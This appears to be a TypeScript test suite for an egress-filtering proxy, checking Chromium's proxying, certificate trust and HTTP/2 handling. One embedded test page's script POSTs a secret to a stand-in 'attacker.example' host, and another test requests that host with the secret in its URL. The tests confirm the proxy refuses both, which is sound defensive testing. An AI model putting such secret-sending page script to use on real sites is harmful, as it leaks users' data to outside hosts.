// Chromium, with its own verifier and a network stack that would rather speak HTTP/2: it takes the leaf, speaks HTTP/1.1
// through the tunnel, and neither a page nor an origin gets past a refusal.

import { writeFile } from "node:fs/promises";
import { createSecureServer } from "node:http2";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, test, vi } from "vitest";
import { createCa, type Issued } from "../support/pki.ts";
import { plainEnvironment, startRealSallyport, type RealSallyport } from "../support/real-sallyport.ts";
import { answerRequests, recordingOrigin, type RecordingOrigin } from "../support/recording-origin.ts";
import { ISSUERS, NAMES, serveBySni, temporaryDirectory, VERDICTS } from "../tls/support.ts";
import { openChromium, type Chromium } from "./chromium.ts";
import { describeWith } from "./sandbox.ts";
import { completed, decisions, disposeAll, handshakeFailed, SECRET, temporary } from "./suite.ts";

const PROGRAMS = ["chromium", "certutil"];

describeWith("Chromium", PROGRAMS, () => {
  const open: AsyncDisposable[] = [];
  let origin: RecordingOrigin;
  let attacker: RecordingOrigin;
  let proxy: RealSallyport;
  let trusting: Chromium;
  let distrusting: Chromium;
  let toProxy: string;
  let root: string;
  let both: Issued;

  beforeAll(async () => {
    const ca = createCa();
    const files = await temporary("sallyport-chromium-");
    open.push(files);
    root = join(files.path, "root.pem");
    await writeFile(root, ca.cert);
    both = ca.issue({ names: ["origin.test"] });
    origin = await recordingOrigin(both);
    attacker = await recordingOrigin(ca.issue({ names: ["attacker.example"] }));
    proxy = await startRealSallyport(configuration(root));
    open.push(origin, attacker, proxy);
    origin.behave(answerRequests((head) => pageAt(head.split(" ")[1] ?? "")));
    toProxy = `--proxy-server=${proxy.url}`;
    const { DENO_CERT: caFile } = proxy.environment;
    const homes = [join(files.path, "trusting"), join(files.path, "distrusting")] as const;
    trusting = await openChromium(homes[0], { ...plainEnvironment(), ...proxy.environment }, caFile);
    open.push(trusting);
    distrusting = await openChromium(homes[1], { ...plainEnvironment(), ...proxy.environment });
    open.push(distrusting);
  });
  afterAll(() => disposeAll(open));
  beforeEach(() => {
    origin.reset();
    attacker.reset();
  });

  const url = (path: string): string => `https://origin.test:${origin.port}${path}`;

  test("shows an allowed page, over HTTP/1.1", async () => {
    const { page } = await trusting.show(url("/page"), [toProxy]);
    expect(page).toContain("<p>the page, over http/1.1</p>");
    expect(origin.received).toMatch(/^GET \/page HTTP\/1\.1\r\n/);
    expect(decisions(await proxy.recorded(completed("/page")), "/page")).toMatchObject([
      { kind: "request", verdict: "allow", method: "GET", scheme: "https", host: "origin.test" },
    ]);
  });

  test("loads a page and what it refers to over HTTP/2 on both sides, where that is offered", async () => {
    const asked: string[] = [];
    const origin2 = createSecureServer({ cert: both.chain, key: both.key });
    origin2.on("stream", (stream, fields) => {
      asked.push(`${fields[":method"]} ${fields[":path"]}`);
      stream.respond({ ":status": 200, "content-type": "text/html" });
      stream.end(PAGES[fields[":path"] ?? ""] ?? "");
    });
    await new Promise<void>((resolve) => void origin2.listen(0, "127.0.0.1", resolve));
    const { port } = origin2.address() as AddressInfo;
    const certs = join(proxy.directory, "certs");
    await using offering = await startRealSallyport(
      `http2: always\ncerts: ${certs}\n${configuration(root, "always")}`,
    );
    try {
      const { page } = await trusting.show(`https://origin.test:${port}/referring`, [
        `--proxy-server=${offering.url}`,
      ]);
      expect(page).toContain("<p>what it refers to came over h2</p>");
      expect(asked).toEqual(expect.arrayContaining(["GET /referring", "GET /page"]));
      await offering.recorded(completed("/referring"));
    } finally {
      origin2.close();
    }
  });

  test("is told the proxy by its environment too", async () => {
    const { page } = await trusting.show(url("/page"));
    expect(page).toContain("<p>the page, over http/1.1</p>");
  });

  test("a page can send nothing, and reads why", async () => {
    const { page } = await trusting.show(url(`/sends#${attacker.port}`), [toProxy]);
    expect(page).toMatch(/here: 403 Sallyport refused this request\.[^]*reason: {2}method-not-allowed/);
    expect(page).toContain("elsewhere: TypeError: Failed to fetch");
    expect(origin.received).not.toContain(SECRET);
    expect(origin.received).not.toMatch(/^POST/m);
    expect(attacker.connections).toBe(0);
    const records = await proxy.recorded(completed("/sent"));
    expect(decisions(records, "/sent")).toMatchObject([
      { kind: "request", verdict: "deny", reason: "method-not-allowed", method: "POST" },
    ]);
    expect(JSON.stringify(records)).not.toContain(SECRET);
  });

  test("a refused host is not shown, and gets nothing", async () => {
    const { page, error } = await trusting.show(`https://attacker.example:${attacker.port}/?${SECRET}`, [
      toProxy,
    ]);
    expect(error).toBe("ERR_TUNNEL_CONNECTION_FAILED");
    expect(page).toBe("");
    expect(attacker.connections).toBe(0);
    const refused = await proxy.recorded((all) => all.some(({ host }) => host === "attacker.example"));
    expect(refused).toContainEqual(
      expect.objectContaining({ kind: "connect", verdict: "deny", reason: "host-not-allowed" }),
    );
  });

  test("without the CA it shows nothing, and asks the origin for nothing", async () => {
    const { page, error } = await distrusting.show(url("/page"), [toProxy]);
    expect(error).toBe("ERR_CERT_AUTHORITY_INVALID");
    expect(page).toBe("");
    expect(origin.received).toBe("");
    await proxy.recorded(handshakeFailed("origin.test"));
  });

  test("leaves no process behind", async () => {
    const shown = trusting.show(url("/page"), [toProxy]);
    await vi.waitFor(async () => expect(await trusting.running()).not.toEqual([]), { timeout: 10_000 });
    await shown;
    for (const each of [trusting, distrusting]) {
      await vi.waitFor(async () => expect(await each.running()).toEqual([]), { timeout: 10_000 });
    }
  });
});

describeWith("Chromium's verdict", PROGRAMS, () => {
  test.each(ISSUERS)("on the leaves of %s", async (_name, makeIssuer) => {
    const issuer = await makeIssuer();
    const home = await temporaryDirectory();
    const caFile = join(home, "anchor.pem");
    await writeFile(caFile, issuer.anchorPem);
    const page = join(home, "page.html");
    await writeFile(page, VISIT_ALL);
    await using chromium = await openChromium(home, plainEnvironment(), caFile);
    const port = await serveBySni(issuer);
    const shown = await chromium.show(`file://${page}#${NAMES.join(",")}`, [
      `--host-resolver-rules=MAP * 127.0.0.1:${port}`,
      "--no-proxy-server",
    ]);
    expect(verdicts(shown.page)).toEqual(VERDICTS);
  });
});

const pageAt = (path: string): string => {
  const body = PAGES[path];
  return body === undefined
    ? "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
    : `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
};

const PAGES: Readonly<Record<string, string>> = {
  "/page": `<!doctype html><body><script>
    const [{ nextHopProtocol }] = performance.getEntriesByType("navigation");
    document.body.innerHTML = "<p>the page, over " + nextHopProtocol + "</p>";
  </script>`,
  "/referring": `<!doctype html><body><script type="module">
    await (await fetch("/page")).text();
    const [{ nextHopProtocol }] = performance.getEntriesByName(location.origin + "/page");
    document.body.innerHTML = "<p>what it refers to came over " + nextHopProtocol + "</p>";
  </script>`,
  "/sends": `<!doctype html><body><pre></pre><script type="module">
    const body = "${SECRET}";
    const send = (url) => fetch(url, { method: "POST", body, mode: "no-cors" }).then(
      async (answer) => answer.status + " " + (await answer.text()), String);
    document.querySelector("pre").append(
      "here: ", await send("/sent"),
      "elsewhere: ", await send("https://attacker.example:" + location.hash.slice(1) + "/"));
  </script>`,
};

/** Asks each host after the `#` for something, and shows a line a host. */
const VISIT_ALL = `<!doctype html><body><script type="module">
  for (const name of location.hash.slice(1).split(",")) {
    const verdict = await fetch("https://" + name + "/", { mode: "no-cors" }).then(() => "ok", () => "refused");
    document.body.append(name + " " + verdict + "\\n");
  }
</script>`;

const verdicts = (page: string): Record<string, string> =>
  Object.fromEntries(
    [...page.matchAll(/^(?:.*>)?(\S+) (ok|refused)$/gm)].map(([, name, verdict]) => [name, verdict]),
  );

const configuration = (root: string, http2 = "auto"): string => `
upstream:
  http2: ${http2}
  trust: [system, bundled, ${root}]
  hosts: { origin.test: [127.0.0.1], attacker.example: [127.0.0.1] }
anonymous: default
policies:
  default: { preset: none, methods: read-only, allow: [{ host: origin.test, networks: [127.0.0.0/8] }] }
`;
